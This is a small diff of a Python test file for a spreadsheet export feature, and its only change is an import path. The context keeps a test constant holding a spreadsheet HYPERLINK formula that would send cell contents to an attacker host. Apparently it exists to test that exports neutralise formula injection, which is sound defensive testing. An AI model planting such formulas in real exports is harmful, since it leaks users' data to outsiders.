@@ -7,7 +7,7 @@ import pytest
 from openpyxl import load_workbook
 
 from approaches.factories import ApproachPageFactory, ConditionFactory
-from core.exports import BYTE_ORDER_MARK, neutralise
+from core.plumbing.exports import BYTE_ORDER_MARK, neutralise
 from tests.core.test_governance import REPORTS, member, registered_reports, snippet_url
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
